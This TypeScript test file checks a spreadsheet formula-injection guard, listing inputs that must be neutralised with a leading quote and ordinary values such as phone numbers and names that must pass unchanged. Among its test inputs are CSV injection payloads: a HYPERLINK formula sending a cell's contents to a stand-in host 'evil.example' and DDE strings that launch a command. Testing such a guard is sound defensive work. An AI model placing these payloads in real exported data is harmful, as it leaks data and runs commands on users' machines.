import fc from 'fast-check';
import { expect, test } from 'vitest';
import { guardFormula } from '../../../src/output/formats/guard.ts';
import { anyText } from '../../support/small-table.ts';

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '@SUM(A1:A9)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  ' =1',
  '\u00a0=1',
  '\ufeff=1',
  '\u200b\u200b@x',
  '\u2060=1',
  '\u3164=1',
  '\0=1',
  '\n=1',
  '\t=1',
  '\r=1',
  '\tname',
  '\nname',
  '\rname',
  '＝1+1',
  '＋27821234567',
  '－1',
  '＠x',
  '﹦1',
  '+27 82 123 4567=1',
  '+27 82 123 4567\n=1',
  '+1 (2)',
  '+1 234 567 890 123 456',
  '-5+A1',
  '-5;=1',
  '--5',
  '-',
  '+',
  '-0x1F',
])('guards %j', (text) => {
  expect(guardFormula(text)).toBe(`'${text}`);
});

test.each([
  '',
  'Thandi',
  '"=1+1"',
  "'=1",
  ';=1',
  'a=1',
  '+27821234567',
  '+27 82 123 4567',
  '+27\u00a082\u00a0123\u00a04567',
  '+1-800-555-0199',
  '+1 (800) 555.0199',
  ' +27821234567',
  '-5',
  '+3.5',
  '-1e5',
  '-1,234.50',
  '-.5',
  '27821234567',
  'Ελένη',
  '王小明',
])('leaves %j', (text) => {
  expect(guardFormula(text)).toBe(text);
});

test('whatever goes in, no formula comes out', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const guarded = guardFormula(text);
      if (guarded === text && /^\s*[=+\-@＝＋－＠]/.test(text)) {
        expect(text).toMatch(/^ *[+-][\d .,()e\u00a0\u202f+-]+$/i);
      }
      expect(guarded).not.toMatch(/^[\t\r\n]/);
      expect([text, `'${text}`]).toContain(guarded);
    }),
    { numRuns: 2000 },
  );
});
